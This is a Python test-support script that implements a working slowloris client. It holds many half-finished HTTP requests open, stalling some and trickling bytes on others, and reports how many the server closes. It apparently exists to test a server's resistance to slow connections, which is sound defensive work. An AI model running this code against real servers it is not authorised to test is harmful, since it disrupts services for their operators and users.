"""A slowloris client, run as its own process so that it never slows the test's own client:
`python -m tests.support.slowloris HOST PORT COUNT MAX_SECONDS`.

It opens COUNT connections, sends each one half a request (a request line and a header that
never ends), prints `open N`, then keeps them open: even-numbered connections stall, odd ones
trickle one more byte of their header every second. It stops on SIGTERM or after MAX_SECONDS,
prints `closed-by-server K` (connections the server closed on its own) and closes the rest.
"""

from __future__ import annotations

import asyncio
import contextlib
import signal
import sys

HALF_REQUEST = b"GET /ready HTTP/1.1\r\nHost: sidecar\r\nX-Slow: "
TRICKLE_EVERY = 1.0


async def attack(host: str, port: int, count: int, max_seconds: float) -> int:
    """Hold `count` half-requests open; returns how many the server closed."""
    stop = asyncio.Event()
    loop = asyncio.get_running_loop()
    loop.add_signal_handler(signal.SIGTERM, stop.set)
    conns: list[tuple[asyncio.StreamReader, asyncio.StreamWriter]] = []
    for _ in range(count):
        reader, writer = await asyncio.open_connection(host, port)
        writer.write(HALF_REQUEST)
        conns.append((reader, writer))
    closed = 0

    async def watch(reader: asyncio.StreamReader) -> None:
        nonlocal closed
        with contextlib.suppress(ConnectionError):
            await reader.read(65536)  # returns b"" (or raises) when the server closes
        closed += 1

    async def trickle() -> None:
        while True:
            await asyncio.sleep(TRICKLE_EVERY)
            for _, writer in conns[1::2]:
                if not writer.is_closing():
                    writer.write(b"x")

    watchers = [asyncio.create_task(watch(reader)) for reader, _ in conns]
    trickler = asyncio.create_task(trickle())
    print(f"open {len(conns)}", flush=True)
    with contextlib.suppress(TimeoutError):
        await asyncio.wait_for(stop.wait(), max_seconds)
    trickler.cancel()
    result = closed
    for task in watchers:
        task.cancel()
    for _, writer in conns:
        writer.close()
    await asyncio.gather(trickler, *watchers, return_exceptions=True)
    print(f"closed-by-server {result}", flush=True)
    return result


def main(argv: list[str]) -> int:
    """Parse HOST PORT COUNT MAX_SECONDS and run the attack."""
    host, port, count, max_seconds = argv[0], int(argv[1]), int(argv[2]), float(argv[3])
    asyncio.run(attack(host, port, count, max_seconds))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
